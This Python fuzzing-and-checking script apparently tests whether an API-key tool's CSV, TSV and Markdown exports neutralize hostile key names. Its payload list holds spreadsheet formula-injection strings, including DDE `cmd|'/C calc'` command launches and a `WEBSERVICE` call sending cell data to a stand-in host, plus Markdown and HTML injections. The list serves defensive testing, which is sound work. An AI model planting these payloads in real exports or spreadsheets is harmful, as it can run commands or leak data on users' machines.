"""Keys whose names are attacks on the programs that read exports, and a second reading of what became of them.

    formats.py corpus [--count N] [--seed S]                      keys, one JSON object a line
    formats.py cells FILE --plain FILE [--format csv|tsv]         nothing active, and the text comes back by the rule
    formats.py markdown FILE --plain FILE                         nothing active when rendered, and the same text
    formats.py formulas FODS...                                   the formulas that LibreOffice found

FILE is written by `apikeys-tui list`, --plain by `--format tsv --tsv-raw`, which is the sanitized text without a guard.
Written from docs/formats.md, not from the code.
"""

import argparse
import csv
import html.parser
import json
import random
import re
import sys

SIGNS = ["=", "+", "-", "@", "\t", "\r", "\n", "\0", "\uff1d", "\uff0b", "\uff0d", "\uff20", "\ufe62", "\ufe63", "\ufe66", "\ufe6b", "\u2212"]

# The list: what was tried on spreadsheets and on readers of Markdown.
LIST = (
    [sign + "1+1" for sign in SIGNS]
    + [lead + "=1+1" for lead in (" ", "  ", "\u3000", "\xa0", "\u2003", "\u200b", "\ufeff", "'", "''", " ' ", '"', "'\"", "\x0b", "\x0c", "\x1b")]
    + ["x%s=cmd|'/C calc'!A0" % sep for sep in ",;|\t:"]
    + ["x%s %s1+1" % (sep, sign) for sep in ",;|" for sign in "=+-@\uff1d"]
    + ['x;"=1+1', 'x;""=1+1', 'x";"=1+1', '";=1+1;"', 'x;', '=1;', ';"', '"', '""', '"""', '",=1', '","=1+1",', "x\r\n=1+1", 'x"\r\n=1+1']
    + ['=HYPERLINK("http://x","y")', '=WEBSERVICE("http://x/"&A1)', "=IMPORTXML(CONCAT(\"http://x\"),\"//a\")", '=DDE("cmd";"/C calc";"x")',
       "@SUM(1+1)*cmd|' /C calc'!A0", "+1 555 0100", "-1", "--1", "ID", "SYLK;=1", "#REF!", "# filter", "a=1", "1e5", "0x1F", "prod-eu-1"]
    + ["https://evil.example/x", "http://evil.example", "www.evil.example", "ftp://evil.example", "mailto:a@b.co", "a@b.co", "xmpp:a@b.co/x",
       "//evil.example", "evil.example/a?b=c&d", "<https://evil.example>", "[x](https://evil.example)", "![x](https://evil.example/p.png)",
       "[x]: https://evil.example", "[x][1]", "[^1]", "[^1]: note", "[[wiki]]", "[[Page|text]]", "[ ] task", "[x] done"]
    + ["@team", "@org/team", "x @user y", "#123", "x #123", "org/repo#1", "GH-1", "!5", "grp/proj!5", "~bug", '~"a bug"', "%1", "%\"v1\"", "&1", "$5",
       "^alert#1", "*iteration:1", "[vulnerability:1]", "[cadence:1]", "a5c3785ed8d6a35868bc169f07e40e889087fd2e", "a5c3785", "org/repo@a5c3785",
       "gh-pages@a5c3785...b5c3785"]
    + [":smile:", ":+1:", ":octocat:", "$x^2$", "$$x$$", "$`x`$", "\\(x\\)", "\\[x\\]", "\\begin{x}", "{+ added +}", "[- gone -]", "%{x}", "{{ x }}", "{% x %}",
       "{::nomarkdown}", "{: .x}", "==mark==", "^sup^", "~sub~", "~~gone~~", "*em*", "_em_", "__strong__", "**strong**", "***both***", "a_b_c", "a*b*c",
       "`code`", "``", "`", "```", "`a", "a`", "` a `", "`" * 100, "`" * 81 + "x"]
    + ["a|b", "|", "||", "\\|", "\\\\|", "a\\|b", "`|`", "\\`|\\`", "\\", "\\\\", "a\\", "|---|", "| x |", "a\n| b | c |", "a<br>b", "<b>x</b>", "<script>x</script>",
       "<!-- x -->", "-->", "<?x?>", "<![CDATA[x]]>", "<details>", "&lt;", "&amp;lt;", "&#60;b&#62;", "&copy;", "&", "<", ">", "> quote", "# head", "- item", "1. item", "---", "===", "***",
       "    code", "  x  ", "   ", " ", "\u3000", "(c)", "...", "--", "\"quoted\"", "'quoted'", "[TOC]", "[[_TOC_]]", "::include{file=x}", ":::note", "!!! note", "#F00", "`#F00`"]
    + ["\u65e5\u672c\u8a9e", "\U0001f600 ok", "e\u0301=1", "\u0301=1", "\u202e=1", "a\u2028=1", "\ud7ff=1"]
)

# The grammar of the other half: names of parts that attack, joined by what readers split at.
GRAMMAR = {
    "name": [["part"], ["part", "join", "part"], ["part", "join", "part", "join", "part"], ["wrap"]],
    "join": [[","], [";"], ["|"], ["\t"], [" "], ["", ""], ["'"], ['"'], ["`"], ["\\"], ["\n"], [";", "lead"], ["|", "lead"], [",", "lead"]],
    "lead": [[" "], ["'"], ['"'], ["''"], ["\u3000"], ["\u00a0"], ["lead", "lead"]],
    "part": [["lead", "formula"], ["formula"], ["link"], ["mark"], ["word"], ["word", "formula"], ["lead"], []],
    "formula": [["sign", "body"]],
    "sign": [[sign] for sign in SIGNS],
    "body": [["1+1"], ["cmd|' /C calc'!A0"], ['HYPERLINK("http://x";"y")'], ["SUM(A1,B1)"], ["A1"], ["word"], []],
    "link": [["scheme", "word", ".example"], ["word", "@", "word", ".co"], ["@", "word"], ["#", "digits"], ["GH-", "digits"], ["!", "digits"], ["[", "name", "](", "scheme", "x)"], ["[[", "word", "]]"], ["[^", "word", "]"]],
    "scheme": [["https://"], ["http://"], ["www."], ["ftp://"], ["mailto:"]],
    "mark": [["run", "word", "run"], [":", "word", ":"], ["$", "word", "$"], ["<", "word", ">"], ["&", "word", ";"], ["&#", "digits", ";"], ["tick", "word", "tick"], ["tick", "name", "tick"]],
    "run": [["*"], ["_"], ["**"], ["~~"], ["~"], ["=="], ["^"]],
    "tick": [["`"], ["``"], ["`", "tick"]],
    "wrap": [['"', "name", '"'], ["'", "name", "'"], [" ", "name", " "], ["(", "name", ")"], ["|", "name", "|"]],
    "word": [["a"], ["prod"], ["x_y"], ["b*c"], ["\u00e9"], ["\u6f22"], ["\U0001f511"], ["1"], ["\\"]],
    "digits": [["1"], ["42"], ["65"], ["124"]],
}


def generate(random_source, symbol="name", depth=0):
    rules = GRAMMAR[symbol]
    # Deep down only the shortest rules, so that a name ends.
    rule = min(rules, key=len) if depth > 8 else random_source.choice(rules)
    return "".join(generate(random_source, item, depth + 1) if item in GRAMMAR else item for item in rule)


def corpus(count, seed):
    names = list(LIST)
    source = random.Random(seed)
    while len(names) < max(count, 2 * len(LIST)):
        name = generate(source)
        if len(name) <= 300:
            names.append(name)
    return names


def print_corpus(count, seed):
    for number, name in enumerate(corpus(count, seed)):
        # The attack is in every text of a key, so that it is in first, inner and last cells.
        print(json.dumps({
            "id": "%d %s" % (number, name) if number % 2 else "00000000-0000-4000-8000-%012d" % number, "name": name,
            "created_date": name if number % 3 == 0 else "2026-01-02T03:04:05Z", "last_four_digits": name[-4:],
            "creator_id": name if number % 5 == 0 else None, "restricted": True, "permissions": ["calls.view", name]}))


SIGN = re.compile("[ '\u3000]*([-=+@\"\uff1d\uff0b\uff0d\uff20\ufe62\ufe63\ufe66\ufe6b\u2212])")
ACTIVE = tuple("=+-@\uff1d\uff0b\uff0d\uff20\ufe62\ufe63\ufe66\ufe6b\u2212")


def unguarded(cell):
    """The text of a cell without its guard, by the rule of docs/formats.md."""
    if re.fullmatch("'+(not understood: .*)?", cell, re.S):
        cell = cell[1:]
    parts = re.split("([,;|])", cell)
    for index in range(0, len(parts), 2):
        if SIGN.match(parts[index]):
            assert parts[index][0] == "'", (cell, "not guarded")
            parts[index] = parts[index][1:]
    return "".join(parts)


def plain_rows(path):
    with open(path, encoding="utf-8", newline="") as file:
        return [line.split("\t") for line in file.read().split("\n")[:-1]]


def check_cells(path, plain, form):
    text = open(path, encoding="utf-8", newline="").read()
    own = "," if form == "csv" else "\t"
    rows = list(csv.reader(open(path, encoding="utf-8", newline=""), delimiter=own, strict=True))
    wanted = plain_rows(plain)
    evidence = [row for row in rows if row[0].startswith("# ")]
    assert all(len(row) == 2 for row in evidence), evidence
    rows = rows[len(evidence):]
    assert len(rows) == len(wanted), (len(rows), len(wanted))
    wrong = [(row, plain) for row, plain in zip(rows, wanted) if [unguarded(cell) for cell in row] != plain]
    assert not wrong, wrong[0]
    for row in evidence:
        unguarded(row[1])
    # Every separator, with quotes and without.
    active = looked = 0
    for delimiter in ",;\t|":
        for quoting in (csv.QUOTE_MINIMAL, csv.QUOTE_NONE):
            for row in csv.reader(open(path, encoding="utf-8", newline=""), delimiter=delimiter, quoting=quoting):
                for cell in row:
                    looked += 1
                    bare = cell.strip().lstrip('"').strip() if quoting == csv.QUOTE_NONE else cell.strip()
                    if bare.startswith(ACTIVE):
                        active += 1
                        print("active:", repr(delimiter), quoting, repr(cell[:100]))
    if form == "csv":
        cell = '"(?:[^"]|"")*"'
        body = text[len("".join(re.findall("^# .*\r\n", text, re.M))):]
        assert re.fullmatch("(?:%s(?:,%s)*\r\n)+" % (cell, cell), body), "a cell without quotes"
    print("%s: %d rows, the text of each back by the rule; %d active cells of %d read with 4 separators, quotes on and off" % (form, len(rows) - 1, active, looked))
    return active == 0


class Cells(html.parser.HTMLParser):
    """The cells of a rendered table: their text, the text outside of code, and every element that is not of the table."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.rows, self.others, self.loose = [], [], []
        self.in_code = 0

    def handle_starttag(self, tag, attributes):
        if tag == "tr":
            self.rows.append([])
        elif tag in ("td", "th"):
            self.rows[-1].append("")
        elif tag == "code":
            self.in_code += 1
        elif tag not in ("table", "thead", "tbody"):
            self.others.append(tag)
        if tag in ("td", "th", "code") and [name for name, _ in attributes if name not in ("align", "style")]:
            self.others.append(str(attributes))

    def handle_endtag(self, tag):
        if tag == "code":
            self.in_code -= 1

    def handle_comment(self, data):
        self.others.append("comment")

    def handle_decl(self, decl):
        self.others.append("declaration")

    def handle_pi(self, data):
        self.others.append("instruction")

    def handle_data(self, data):
        if self.rows and self.rows[-1] and data != "\n":
            self.rows[-1][-1] += data
            if not self.in_code:
                self.loose.append(data)


# What GitHub and GitLab look for in the text of a page after it was rendered, outside of code.
REFERENCES = re.compile(
    r"@\w|[#!~%&$^]\w|\bGH-\d|:[\w+-]+:|\$[^$]*\$|://|\bwww\.|\w@\w|\[\[|\[\^|\[vulnerability:|\b[0-9a-f]{7,40}\b|\{\+|\[-|%\{|\{\{|\[TOC\]", re.I)


def renderers():
    import cmarkgfm
    from cmarkgfm.cmark import Options
    import markdown_it
    import mdit_py_plugins.dollarmath
    import mdit_py_plugins.footnote
    import mdit_py_plugins.tasklists
    import mistune
    every = markdown_it.MarkdownIt("gfm-like", {"html": True, "linkify": True, "typographer": True}).enable(["replacements", "smartquotes"])
    every.use(mdit_py_plugins.dollarmath.dollarmath_plugin).use(mdit_py_plugins.footnote.footnote_plugin)
    every.use(mdit_py_plugins.tasklists.tasklists_plugin)
    options = Options.CMARK_OPT_UNSAFE | Options.CMARK_OPT_FOOTNOTES | Options.CMARK_OPT_SMART
    more = mistune.create_markdown(
        escape=False, plugins=["table", "url", "strikethrough", "footnotes", "task_lists", "math", "mark", "superscript", "subscript", "insert"])
    return {
        "cmark-gfm": lambda text: cmarkgfm.github_flavored_markdown_to_html(text, options),
        "markdown-it": every.render,
        "mistune": more,
    }


# What is shown for a value that is not there, or of which nothing is visible.
MISSING = ("-", "(no name)", "(empty name)", "(empty)", "none")


def shown(row, plain):
    """The cells that a row must have: the words for a missing value where there is none."""
    return [cell or (found if found.strip() in MISSING else "-") for cell, found in zip(plain, row)]


def check_markdown(path, plain):
    text = open(path, encoding="utf-8", newline="").read()
    wanted = [row for row in plain_rows(plain)][1:]
    good = True
    for name, render in renderers().items():
        cells = Cells()
        cells.feed(render(text))
        active = list(cells.others)
        active += [match.group() for data in cells.loose for match in REFERENCES.finditer(data)]
        rows = cells.rows[1:]
        wrong = [(row, plain) for row, plain in zip(rows, wanted) if row != shown(row, plain)]
        if name == "mistune":
            # It takes outer spaces off a cell, as HTML does when it is shown.
            wrong = [(row, plain) for row, plain in wrong if [cell.strip() for cell in row] != [cell.strip() for cell in shown(row, plain)]]
        for pair in wrong[:3]:
            print("differs:", name, pair)
        if active:
            print("active:", name, active[:10])
        good = good and not active and not wrong and len(rows) == len(wanted)
        print("%s: %d rows of %d, %d active elements and references, %d rows that read otherwise" % (name, len(rows), len(wanted), len(active), len(wrong)))
    return good


def count_formulas(paths):
    found = 0
    for path in paths:
        text = open(path, encoding="utf-8").read()
        hits = re.findall('table:formula="[^"]*"|<text:a [^>]*>', text)
        cells = text.count("<table:table-cell")
        if not cells:
            sys.exit("%s holds no cells" % path)
        for hit in hits[:5]:
            print(path, hit[:120])
        print("%s: %d formulas and links, %d cells" % (path.rsplit("/", 1)[-1], len(hits), cells))
        found += len(hits)
    return found


def main():
    parser = argparse.ArgumentParser()
    parser.add_argument("action", choices=["corpus", "cells", "markdown", "formulas"])
    parser.add_argument("files", nargs="*")
    parser.add_argument("--plain")
    parser.add_argument("--format", default="csv")
    parser.add_argument("--count", type=int, default=2000)
    parser.add_argument("--seed", type=int, default=1)
    options = parser.parse_args()
    if options.action == "corpus":
        print_corpus(options.count, options.seed)
    elif options.action == "cells":
        sys.exit(0 if check_cells(options.files[0], options.plain, options.format) else 1)
    elif options.action == "markdown":
        sys.exit(0 if check_markdown(options.files[0], options.plain) else 1)
    else:
        sys.exit(1 if count_formulas(options.files) else 0)


if __name__ == "__main__":
    main()
